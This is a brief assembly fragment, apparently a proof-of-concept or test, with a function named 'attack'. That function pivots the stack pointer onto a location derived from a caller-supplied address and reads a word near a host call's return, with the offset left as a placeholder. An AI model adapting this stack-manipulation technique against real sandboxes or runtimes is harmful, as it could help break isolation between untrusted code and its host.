function call_host
    call *%gs:0x11080
    ret
# Where the exit word of a call lies.
function place
    mov %rsp,%rax
    ret
# rdi is such a place: unit U2, then the return.
function attack
    mov $77,%eax
    xor %ebx,%ebx
    xor %ebp,%ebp
    mov %rdi,%r11
    xor %rsp,%r11
    and $0xfffff8,%r11d
    xor %r11,%rsp
    mov -OFF(%rsp),%r11
    ret
